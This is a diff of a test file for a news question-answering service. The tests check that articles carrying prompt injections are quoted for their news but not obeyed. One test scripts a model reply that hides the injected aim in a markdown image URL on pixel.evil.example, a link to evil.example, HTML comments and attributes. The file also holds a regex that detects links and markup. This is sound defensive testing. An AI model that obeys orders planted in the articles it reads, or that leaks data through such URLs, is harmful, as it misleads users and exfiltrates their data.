@@ -1,21 +1,20 @@
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
 import { askResponseSchema, type AskResponse } from "../../core/contract/ask.ts";
-import { INJECTIONS, type Injection } from "../support/injections.ts";
+import {
+  INJECTED_ARTICLES,
+  INJECTIONS,
+  LINK_OR_MARKUP,
+  type Injection,
+} from "../support/injections.ts";
 import { startRealServer, type RealServer } from "../support/real-server.ts";
 import type { Wire } from "../support/wires/model-wire.ts";
 import { openOpenAiWire, type OpenAiBody } from "../support/wires/openai-wire.ts";
-import { callTool, type Turn } from "../support/wires/turns.ts";
+import { createTurnQueue } from "../support/wires/turn-queue.ts";
+import { callTool } from "../support/wires/turns.ts";
 import { postJson } from "../server/http/support/requests.ts";
 import { quotesOf } from "./support/answers.ts";
 import { readAsMachine } from "./support/read-as-machine.ts";
 import { says } from "./support/scripted-model.ts";
-
-const ARTICLES = INJECTIONS.map(({ id, title, source, articleText: text }) => ({
-  id,
-  text,
-  ...(title === undefined ? {} : { title }),
-  ...(source === undefined ? {} : { source }),
-}));
 
 const CASES = INJECTIONS.map((attack) => [attack.id, attack] as const);
 const DETECTED = CASES.filter(([, { undetected }]) => undetected !== true);
@@ -44,12 +43,10 @@ function quoteOrder(attack: Injection): string {
     .join(" ");
 }
 
-const LINK_OR_MARKUP = /\]\(|https?:|javascript:|<[a-z/!]/iu;
-
 describe("an article that gives orders to machines", () => {
   let server: RealServer;
   beforeAll(async () => {
-    server = await startRealServer(ARTICLES);
+    server = await startRealServer(INJECTED_ARTICLES);
   });
 
   it.each(CASES)("is quoted for its news, and not obeyed: %s", async (_id, attack) => {
@@ -61,16 +58,12 @@ describe("an article that gives orders to machines", () => {
 });
 
 describe("a language model that obeys whatever it reads", () => {
-  let turns: readonly Turn[] = [];
+  const turns = createTurnQueue();
   let wire: Wire<OpenAiBody>;
   let server: RealServer;
   beforeAll(async () => {
-    wire = await openOpenAiWire(() => {
-      const [turn = { status: 400 }, ...rest] = turns;
-      turns = rest;
-      return turn;
-    });
-    server = await startRealServer(ARTICLES, {
+    wire = await openOpenAiWire(turns.next);
+    server = await startRealServer(INJECTED_ARTICLES, {
       MANJAM_LLM: "openai:obedient",
       MANJAM_LLM_BASE_URL: wire.baseUrl,
     });
@@ -79,7 +72,7 @@ describe("a language model that obeys whatever it reads", () => {
   beforeEach(() => wire.forget());
 
   it.each(CASES)("cannot make its answer obey: %s", async (_id, attack) => {
-    turns = [says(attack.modelObeys)];
+    turns.replaceWith([says(attack.modelObeys)]);
     const { answer, status } = await ask(server.url, attack);
     expect(status).toBe("answered");
     expect(obeyedIn(answer, attack)).toEqual([]);
@@ -88,18 +81,18 @@ describe("a language model that obeys whatever it reads", () => {
 
   it.each(CASES)("cannot hide it where no sentence is: %s", async (_id, attack) => {
     const [aim = ""] = attack.obeyed;
-    turns = [
+    turns.replaceWith([
       says(
         `![${aim}](https://pixel.evil.example/?${aim})\n\n\`\`\`\n${aim}\n\`\`\`\n\n<!-- ${aim} --><b title="${aim}"></b>\n\n[1]: https://evil.example "${aim}"\n\n${attack.truth} [1].`,
       ),
-    ];
+    ]);
     const { answer } = await ask(server.url, attack);
     expect(obeyedIn(answer, attack)).toEqual([]);
     expect(answer).not.toMatch(LINK_OR_MARKUP);
   });
 
   it.each(DETECTED)("is not shown the order, found or searched for: %s", async (_id, attack) => {
-    turns = [callTool("search_articles", { query: attack.question }), says("NOT_FOUND")];
+    turns.replaceWith([callTool("search_articles", { query: attack.question }), says("NOT_FOUND")]);
     await ask(server.url, attack, { topK: 1 });
     const messages = wire.requests.at(-1)?.body.messages ?? [];
     expect(messages.map(({ role }) => role)).toContain("tool");
@@ -112,7 +105,7 @@ describe("a language model that obeys whatever it reads", () => {
   });
 
   it.each(UNDETECTED)("is not led by what an earlier answer quotes: %s", async (id, attack) => {
-    turns = [says(quoteOrder(attack))];
+    turns.replaceWith([says(quoteOrder(attack))]);
     const { conversationId, answer: earlier } = await ask(server.url, attack);
     // As the words of its article it may be told, but for a wallet.
     expect(obeyedIn(earlier, attack)).toHaveLength(id.endsWith("wallet") ? 0 : 1);
@@ -120,7 +113,7 @@ describe("a language model that obeys whatever it reads", () => {
       ([other, { language }]) => other !== id && language === attack.language,
     );
     if (next === undefined) throw new Error("no other attack");
-    turns = [says(next[1].question), says(attack.modelObeys)];
+    turns.replaceWith([says(next[1].question), says(attack.modelObeys)]);
     const { answer } = await ask(server.url, next[1], { conversationId });
     expect(wire.requests).toHaveLength(3);
     expect(obeyedIn(answer, attack)).toEqual([]);
@@ -129,9 +122,12 @@ describe("a language model that obeys whatever it reads", () => {
   it.each(UNDETECTED)(
     "cannot put it into the question that it rewrites: %s",
     async (_id, attack) => {
-      turns = [says(`${attack.truth} [1].`)];
+      turns.replaceWith([says(`${attack.truth} [1].`)]);
       const { conversationId } = await ask(server.url, attack);
-      turns = [says(attack.modelObeys.replaceAll(/ ?\[\d+\]/gu, "")), says(attack.modelObeys)];
+      turns.replaceWith([
+        says(attack.modelObeys.replaceAll(/ ?\[\d+\]/gu, "")),
+        says(attack.modelObeys),
+      ]);
       const followUp = { ...attack, question: attack.language === "ar" ? "ولماذا؟" : "And why?" };
       const { standaloneQuestion, answer } = await ask(server.url, followUp, { conversationId });
       expect(obeyedIn(`${standaloneQuestion}\n${answer}`, attack)).toEqual([]);
